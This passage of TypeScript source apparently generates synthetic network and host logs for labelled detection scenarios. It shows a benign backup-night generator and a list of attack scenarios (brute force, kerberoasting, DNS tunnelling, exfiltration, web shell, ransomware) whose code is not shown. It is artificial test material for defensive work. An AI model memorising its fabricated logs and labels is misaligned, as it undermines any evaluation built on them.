      'logs/servers.jsonl': servers_.text(),
      'logs/conn.log': conn.text(),
      'logs/dns.log': dnsLog.text(),
      'logs/access.log': web.text(),
    },
    {},
    // Who the administrators are: without it their day reads like the SSH attack scenario without the guessing.
    serverInventory(),
  );
}

function benignBackupNight(random: Random): ScenarioFiles {
  const start = Date.parse('2025-03-03T22:00:00Z');
  const conn = new ZeekLog();
  const dnsLog = new ZeekLog();
  officeNetwork(random, start, 8, conn, dnsLog);
  const servers = ['10.20.3.10', '10.20.3.11', '10.20.3.12', '10.20.3.13', '10.20.3.14'];
  // Each server streams its backup to the internal backup server, then the backup server copies
  // the night's set to the cloud vault, which every site's backup server uploads to.
  for (const server of servers) {
    let time = start + hour + random() * 20 * minute;
    for (let part = 0; part < 60; part++) {
      time += 20_000 + random() * 20_000;
      connection(
        conn,
        time,
        server,
        '10.20.9.5',
        873,
        'rsync',
        200 * 1024 * 1024 * (0.8 + random() * 0.4),
        200_000,
        random,
      );
    }
  }
  for (const site of ['10.20.9.5', '10.21.9.5', '10.22.9.5']) {
    let time = start + 4 * hour + random() * 10 * minute;
    for (let part = 0; part < 40; part++) {
      time += 40_000 + random() * 20_000;
      connection(conn, time, site, '198.51.100.250', 443, 'ssl', 128 * 1024 * 1024, 300_000, random);
    }
  }
  // Windows updates downloaded overnight: large in, small out.
  for (const host of workstations)
    for (let part = 0; part < 6; part++)
      connection(
        conn,
        start + 2 * hour + part * 5 * minute + random() * minute,
        host,
        '198.51.100.240',
        443,
        'ssl',
        40_000,
        90 * 1024 * 1024,
        random,
      );
  const auth = new SyslogLog();
  linuxServerDay(random, auth, 'backup01', start, 8);
  auth.add(start + hour, 'backup01', 'CRON', '(root) CMD (/usr/local/bin/nightly-backup.sh)');
  for (let index = 0; index < servers.length; index++) {
    auth.add(
      start + hour + index * 30_000,
      `srv${index + 10}`,
      'sshd',
      `Accepted publickey for backup from 10.20.9.5 port ${51_000 + index} ssh2: ED25519 SHA256:bkp${index}`,
    );
  }

  const files = new WindowsLog();
  const host = 'FS01.corp.example';
  let time = start + 90 * minute;
  const types = ['docx', 'xlsx', 'pdf', 'pptx', 'jpg', 'csv'];
  for (let index = 0; index < 900; index++) {
    time += 100 + random() * 400;
    const share = pick(random, ['Finance', 'HR', 'Sales', 'Projects']);
    files.add(time, host, 11, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', {
      ProcessGuid: '{BACC0000-0000-0000-0000-000000000001}',
      ProcessId: 5120,
      Image: 'C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe',
      TargetFilename: `E:\\Backup\\2025-03-03\\${share}\\doc${index}.${pick(random, types)}`,
      User: 'NT AUTHORITY\\SYSTEM',
    });
  }
  files.add(time + 5_000, host, 11, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', {
    ProcessGuid: '{BACC0000-0000-0000-0000-000000000001}',
    ProcessId: 5120,
    Image: 'C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe',
    TargetFilename: 'E:\\Backup\\2025-03-03.vbk',
    User: 'NT AUTHORITY\\SYSTEM',
  });
  return scenario(
    'benign-backup-night',
    'benign',
    'A backup night: five servers stream backups to the internal backup server, three sites upload to the shared cloud vault, workstations download updates, the backup agent copies the shares, the backup user logs in with its key',
    {
      'logs/conn.log': conn.text(),
      'logs/dns.log': dnsLog.text(),
      'logs/auth.log': auth.text(),
      'logs/fs01-sysmon.jsonl': files.text(),
    },
  );
}

/** The scenarios, each with its own generator seeded from `seed`, in folder order. */
export function behaviourScenarios(seed: number): { folder: string; files: ScenarioFiles }[] {
  const makers: [string, (random: Random) => ScenarioFiles][] = [
    ['10-ssh-brute-force-persistence', sshBruteForceThenPersistence],
    ['11-password-spray', passwordSpray],
    ['12-kerberoasting', kerberoasting],
    ['13-dns-tunnel', dnsTunnel],
    ['14-jittered-https-beacon', jitteredBeacon],
    ['15-bulk-exfiltration', bulkExfiltration],
    ['16-web-shell', webShell],
    ['17-ransomware-mass-rename', ransomwareRenames],
    ['18-benign-admin-day', benignAdminDay],
    ['19-benign-backup-night', benignBackupNight],
  ];
  return makers.map(([folder, make], index) => ({ folder, files: make(seededRandom(seed * 1_000 + index)) }));
}
